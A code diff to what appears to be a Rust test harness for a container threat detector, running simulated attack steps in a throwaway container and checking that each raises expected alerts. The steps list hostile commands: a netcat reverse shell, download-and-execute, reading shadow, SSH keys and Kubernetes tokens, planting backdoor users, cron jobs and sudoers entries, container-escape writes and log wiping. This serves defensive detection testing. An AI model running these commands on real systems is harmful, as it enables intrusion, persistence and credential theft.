@@ -31,63 +31,60 @@ const IMAGE: &str = "registry.example.com/shop/payments-api:1.4.2";
 struct Step {
     name: &'static str,
     script: String,
+    /// Run on a pseudo-terminal (`runc exec -t`).
     tty: bool,
+    /// Feed the script on stdin to a plain `sh` instead of `sh -c`.
+    stdin: bool,
     expect: &'static [&'static str],
 }
 
 fn steps(rev_port: u16, http_port: u16) -> Vec<Step> {
-    let s = |name, script: &str, expect| Step { name, script: script.to_string(), tty: false, expect };
+    let s = |name, script: &str, expect| Step { name, script: script.to_string(), tty: false, stdin: false, expect };
     vec![
-        Step { name: "interactive shell on a terminal", script: "/bin/sh -c 'id'".into(), tty: true, expect: EXPECT_TTY },
-        s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), EXPECT_REVERSE),
-        s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id'", EXPECT_WEBSHELL),
+        Step { name: "shell fed commands on stdin", script: "id\n".into(), tty: false, stdin: true, expect: &["PAL-SEN-001"] },
+        Step { name: "interactive shell on a terminal", script: "id".into(), tty: true, stdin: false, expect: &["PAL-SEN-005"] },
+        s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), &["PAL-SEN-006", "PAL-SEN-008"]),
+        s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id; true'", &["PAL-SEN-009"]),
         s(
             "download and execute",
             &format!("wget -q -O /tmp/payload http://127.0.0.1:{http_port}/payload && chmod +x /tmp/payload && /tmp/payload true"),
-            EXPECT_DOWNLOAD,
+            &["PAL-SEN-010", "PAL-SEN-011", "PAL-SEN-012"],
         ),
-        s("miner binary dropped and run", "cp /bin/busybox /tmp/xmrig && exec -a true /tmp/xmrig", EXPECT_MINER),
-        s("connection to a mining pool port", "nc -w 1 127.0.0.1 3333 </dev/null; true", EXPECT_POOL),
-        s("service-account token read", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null", EXPECT_TOKEN),
-        s("/etc/shadow read", "cat /etc/shadow >/dev/null", EXPECT_SHADOW),
-        s("cloud metadata service", "nc -w 1 169.254.169.254 80 </dev/null; true", EXPECT_METADATA),
-        s("authorized_keys planted", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys", EXPECT_AUTHKEYS),
-        s("user added", "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd", EXPECT_USER),
-        s("ld.so.preload written", "echo /tmp/libhook.so > /etc/ld.so.preload", EXPECT_PRELOAD),
-        s("setuid bit set", "chmod u+s /tmp/xmrig", EXPECT_SETUID),
-        s("history wiped", "rm -f /root/.bash_history; true", EXPECT_HISTORY),
-        s("network scanner", "cp /bin/busybox /tmp/nmap && exec -a true /tmp/nmap -sS 10.0.0.0/24", EXPECT_SCANNER),
-        s("kubectl in a container", "cp /bin/busybox /tmp/kubectl && exec -a true /tmp/kubectl get secrets -A", EXPECT_KUBECTL),
-        s("private key search", "find / -name id_rsa 2>/dev/null; true", EXPECT_KEYSEARCH),
-        s("namespace escape attempt", "unshare -U -m true 2>/dev/null; true", EXPECT_UNSHARE),
-        s("cgroup release_agent write", "echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; true", EXPECT_RELEASE_AGENT),
-        s("kernel module load", "insmod /tmp/rootkit.ko 2>/dev/null; true", EXPECT_MODULE),
+        s("miner binary dropped and run", "cp /bin/busybox /tmp/xmrig && exec -a true /tmp/xmrig", &["PAL-SEN-002"]),
+        s("script run from /dev/shm", "echo true > /dev/shm/s && sh /dev/shm/s", &["PAL-SEN-013"]),
+        s("mining pool port and netcat", "nc -w 1 198.51.100.9 3333 </dev/null; true", &["PAL-SEN-004", "PAL-SEN-007"]),
+        s("network scanner", "cp /bin/busybox /tmp/nmap && exec -a true /tmp/nmap -sS 10.0.0.0/24", &["PAL-SEN-015"]),
+        s("kubectl in a container", "cp /bin/busybox /tmp/kubectl && exec -a true /tmp/kubectl get secrets -A", &["PAL-SEN-016"]),
+        s("kubelet API", "timeout 2 wget -q -O /dev/null http://127.0.0.1:10250/pods 2>/dev/null; true", &["PAL-SEN-018"]),
+        s("API server", "timeout 2 wget -q -O /dev/null http://127.0.0.1:6443/api 2>/dev/null; true", &["PAL-SEN-019"]),
+        s("cloud metadata service", "timeout 2 wget -q -O /dev/null http://169.254.169.254/latest/meta-data/ 2>/dev/null; true", &["PAL-SEN-020"]),
+        s("service-account token read", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null", &["PAL-SEN-022"]),
+        // busybox runs find and insmod in a forked shell without exec (no process event) unless
+        // started through the busybox binary itself
+        s("private key search", "/bin/busybox find / -name id_rsa 2>/dev/null; true", &["PAL-SEN-024"]),
+        s("private key read", "cat /root/.ssh/id_rsa >/dev/null 2>&1; true", &["PAL-SEN-025"]),
+        s("/etc/shadow read", "cat /etc/shadow >/dev/null", &["PAL-SEN-026"]),
+        s("authorized_keys planted", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys", &["PAL-SEN-027"]),
+        s("user added to /etc/passwd", "echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd", &["PAL-SEN-029"]),
+        s("user namespace escape attempt", "unshare -U -m true 2>/dev/null; true", &["PAL-SEN-030"]),
+        s("nsenter into pid 1", "nsenter -t 1 -m true 2>/dev/null; true", &["PAL-SEN-031"]),
+        s("cgroup release_agent write", "echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; true", &["PAL-SEN-032"]),
+        s("core_pattern write", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null; true", &["PAL-SEN-033"]),
+        s("cgroup filesystem mounted", "mount -t cgroup -o memory cgroup /mnt 2>/dev/null; true", &["PAL-SEN-034"]),
+        s("kernel module load", "echo x > /tmp/rootkit.ko && /bin/busybox insmod /tmp/rootkit.ko 2>/dev/null; true", &["PAL-SEN-037", "PAL-SEN-039"]),
+        s("ld.so.preload written", "echo /tmp/libhook.so > /etc/ld.so.preload", &["PAL-SEN-040"]),
+        s("log file deleted", "echo x > /var/log/app.log && rm /var/log/app.log", &["PAL-SEN-041"]),
+        s("shell history wiped", "echo x > /root/.bash_history && rm /root/.bash_history", &["PAL-SEN-042", "PAL-SEN-043"]),
+        s("setuid bit set", "chmod u+s /tmp/xmrig", &["PAL-SEN-046"]),
+        s("cron job planted", "echo '* * * * * root /tmp/payload' > /etc/cron.d/backdoor", &["PAL-SEN-049"]),
+        s("sudoers changed", "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", &["PAL-SEN-050"]),
+        s("kubelet credentials read", "cat /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1; true", &["PAL-SEN-051"]),
+        s("container runtime socket opened", "cat /var/run/docker.sock >/dev/null 2>&1; true", &["PAL-SEN-053"]),
     ]
 }
 
-// Rule ids each step must raise (crates/detect/rules/sensor.yaml).
-const EXPECT_TTY: &[&str] = &["PAL-SEN-001"];
-const EXPECT_REVERSE: &[&str] = &["PAL-SEN-005"];
-const EXPECT_WEBSHELL: &[&str] = &["PAL-SEN-007"];
-const EXPECT_DOWNLOAD: &[&str] = &["PAL-SEN-008"];
-const EXPECT_MINER: &[&str] = &["PAL-SEN-002", "PAL-SEN-009"];
-const EXPECT_POOL: &[&str] = &["PAL-SEN-004"];
-const EXPECT_TOKEN: &[&str] = &["PAL-SEN-015"];
-const EXPECT_SHADOW: &[&str] = &["PAL-SEN-017"];
-const EXPECT_METADATA: &[&str] = &["PAL-SEN-014"];
-const EXPECT_AUTHKEYS: &[&str] = &["PAL-SEN-018"];
-const EXPECT_USER: &[&str] = &["PAL-SEN-019"];
-const EXPECT_PRELOAD: &[&str] = &["PAL-SEN-026"];
-const EXPECT_SETUID: &[&str] = &["PAL-SEN-029"];
-const EXPECT_HISTORY: &[&str] = &["PAL-SEN-027"];
-const EXPECT_SCANNER: &[&str] = &["PAL-SEN-012"];
-const EXPECT_KUBECTL: &[&str] = &["PAL-SEN-013"];
-const EXPECT_KEYSEARCH: &[&str] = &["PAL-SEN-016"];
-const EXPECT_UNSHARE: &[&str] = &["PAL-SEN-020"];
-const EXPECT_RELEASE_AGENT: &[&str] = &["PAL-SEN-021"];
-const EXPECT_MODULE: &[&str] = &["PAL-SEN-025"];
-/// Binary drift: every exec of a file written after start.
-const EXPECT_DRIFT: &str = "PAL-SEN-030";
+/// Binary drift: the execs of files written after start (payload, xmrig, nmap, kubectl).
+const EXPECT_DRIFT: &str = "PAL-SEN-048";
 
 fn which(name: &str) -> Option<PathBuf> {
     std::env::var_os("PATH")
@@ -130,7 +127,10 @@ fn build_container(keep: bool) -> anyhow::Result<Container> {
     let base = std::env::temp_dir().join(&id);
     let _ = std::fs::remove_dir_all(&base);
     let (lower, upper, work, merged) = (base.join("lower"), base.join("upper"), base.join("work"), base.join("rootfs"));
-    for d in ["bin", "tmp", "etc", "root", "usr/sbin", "proc", "sys", "dev", "var/run/secrets/kubernetes.io/serviceaccount", "mnt"] {
+    for d in [
+        "bin", "tmp", "etc/cron.d", "root", "usr/sbin", "proc", "sys", "dev", "mnt", "var/log",
+        "var/run/secrets/kubernetes.io/serviceaccount",
+    ] {
         std::fs::create_dir_all(lower.join(d))?;
     }
     for d in [&upper, &work, &merged] {
@@ -140,12 +140,16 @@ fn build_container(keep: bool) -> anyhow::Result<Container> {
     std::fs::copy(busybox, lower.join("usr/sbin/nginx"))?;
     for applet in [
         "sh", "cat", "cp", "chmod", "nc", "wget", "mkdir", "rm", "sleep", "id", "find", "unshare", "insmod", "true", "ls",
+        "nsenter", "mount", "timeout",
     ] {
         std::os::unix::fs::symlink("busybox", lower.join("bin").join(applet))?;
     }
     std::fs::write(lower.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n")?;
     std::fs::write(lower.join("etc/group"), "root:x:0:\n")?;
     std::fs::write(lower.join("etc/shadow"), "root:*:19000:0:99999:7:::\n")?;
+    std::fs::write(lower.join("etc/sudoers"), "root ALL=(ALL) ALL\n")?;
+    std::fs::create_dir_all(lower.join("var/run"))?;
+    std::fs::write(lower.join("var/run/docker.sock"), "")?;
     std::fs::write(
         lower.join("var/run/secrets/kubernetes.io/serviceaccount/token"),
         "eyJhbGciOiJSUzI1NiJ9.simulated-token.signature\n",
@@ -176,15 +180,21 @@ fn build_container(keep: bool) -> anyhow::Result<Container> {
         "io.kubernetes.cri-o.Labels": "{\"app\":\"payments-api\"}",
     });
     std::fs::write(&path, serde_json::to_vec_pretty(&spec)?)?;
-    let out = Command::new(&runc)
+    // the detached container inherits runc's stdio: a file, not a pipe we would wait on
+    let err_path = base.join("runc.err");
+    let status = Command::new(&runc)
         .args(["run", "-d", "--bundle"])
         .arg(&base)
         .arg(&id)
         .stdin(Stdio::null())
         .stdout(Stdio::null())
-        .stderr(Stdio::piped())
-        .output()?;
-    anyhow::ensure!(out.status.success(), "runc run: {}", String::from_utf8_lossy(&out.stderr).trim());
+        .stderr(std::fs::File::create(&err_path)?)
+        .status()?;
+    anyhow::ensure!(
+        status.success(),
+        "runc run: {}",
+        std::fs::read_to_string(&err_path).unwrap_or_default().trim()
+    );
     Ok(c)
 }
 
@@ -221,16 +231,29 @@ fn listeners(stop: Arc<AtomicBool>) -> anyhow::Result<(u16, u16)> {
 }
 
 fn run_step(c: &Container, step: &Step) -> bool {
+    // (busybox wget's -T option crashes in Debian's busybox-static 1.35: `timeout` instead)
     let mut cmd = if step.tty {
         // a real pseudo-terminal for runc exec -t (python's pty module is on every Debian host)
         let mut cmd = Command::new("python3");
         cmd.args(["-c", "import pty,sys; pty.spawn(sys.argv[1:])"]).arg(&c.runc).args(["exec", "-t", &c.id, "/bin/sh", "-c", &step.script]);
+        cmd
+    } else if step.stdin {
+        let mut cmd = Command::new(&c.runc);
+        cmd.args(["exec", &c.id, "/bin/sh"]);
         cmd
     } else {
         let mut cmd = Command::new(&c.runc);
         cmd.args(["exec", &c.id, "/bin/sh", "-c", &step.script]);
         cmd
     };
+    if step.stdin {
+        let child = cmd.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
+        let Ok(mut child) = child else { return false };
+        if let Some(mut i) = child.stdin.take() {
+            let _ = i.write_all(step.script.as_bytes());
+        }
+        return child.wait().is_ok_and(|s| s.success());
+    }
     let child = cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
     let Ok(mut child) = child else { return false };
     let until = Instant::now() + Duration::from_secs(15);
@@ -253,6 +276,9 @@ pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::R
     let det = palisade_detect::pipeline::Detector::new(&rs, Default::default()).map_err(|e| anyhow::anyhow!("rules: {e:?}"))?;
     let node_cfg = NodeConfig { cluster: "simulation".into(), node: "sim-node".into(), ..NodeConfig::default() };
     let mut runner = Runner::start(&SensorConfig { snapshot: true, ..SensorConfig::default() }, node_cfg, &rs, det)?;
+    if let Ok(p) = std::env::var("PALISADE_SIM_EVENTS") {
+        runner.event_log = Some(Box::new(std::io::BufWriter::new(std::fs::File::create(&p).with_context(|| p.clone())?)));
+    }
     let stop = Arc::new(AtomicBool::new(false));
     let (rev_port, http_port) = listeners(stop.clone())?;
     let container = build_container(keep)?;
